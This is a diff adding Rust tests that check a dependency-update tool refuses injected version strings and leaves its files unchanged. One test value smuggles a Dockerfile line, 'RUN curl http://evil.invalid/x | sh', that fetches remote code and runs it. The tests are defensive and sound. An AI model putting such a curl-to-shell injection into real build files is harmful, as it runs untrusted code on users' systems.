@@ -134,6 +134,29 @@ fn malformed_file_fails_with_a_position_and_writes_nothing() {
 }
 
 #[test]
+fn a_version_that_would_inject_a_line_is_refused_and_writes_nothing() {
+    let dir = repo();
+    let out = update(
+        dir.path(),
+        &["Contoso.Runtime=9.0.2\nRUN curl http://evil.invalid/x | sh\n#"],
+    );
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("refusing version \"9.0.2\\nRUN curl http://evil.invalid/x | s…\""),
+        "{stderr}"
+    );
+    assert!(stderr.contains("\"Contoso.Runtime\""), "{stderr}");
+    assert!(
+        !stderr.contains("RUN curl http://evil.invalid/x | sh\n"),
+        "{stderr}"
+    );
+    assert_eq!(read(dir.path(), "eng/Version.Details.xml"), VDX);
+    assert_eq!(read(dir.path(), "eng/Versions.props"), PROPS);
+    assert_eq!(read(dir.path(), "global.json"), GLOBAL);
+}
+
+#[test]
 fn verify_reports_findings_with_positions() {
     let dir = repo();
     fs::write(
@@ -226,6 +249,36 @@ fn native_example_updates_every_reference() {
         "pinned stays"
     );
     assert!(sluice(&["deps", "verify", "--dir", &d]).status.success());
+}
+
+#[test]
+fn native_references_refuse_a_version_outside_their_grammar() {
+    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/native-manifest");
+    let dir = tempfile::tempdir().expect("tempdir");
+    for path in [
+        ".sluice/dependencies.yaml",
+        "Cargo.toml",
+        "Dockerfile",
+        "deploy/values.yaml",
+        "package.json",
+    ] {
+        let target = dir.path().join(path);
+        fs::create_dir_all(target.parent().expect("parent")).expect("mkdir");
+        fs::copy(example.join(path), &target).expect("copy");
+    }
+    let out = update(dir.path(), &["Contoso.Runtime=9.0.2 AS evil"]);
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains(
+            "Dockerfile: refusing version \"9.0.2 AS evil\" of dependency \"Contoso.Runtime\""
+        ),
+        "{stderr}"
+    );
+    for path in [".sluice/dependencies.yaml", "Cargo.toml", "Dockerfile"] {
+        let before = fs::read_to_string(example.join(path)).expect("read");
+        assert_eq!(read(dir.path(), path), before, "{path}");
+    }
 }
 
 #[test]
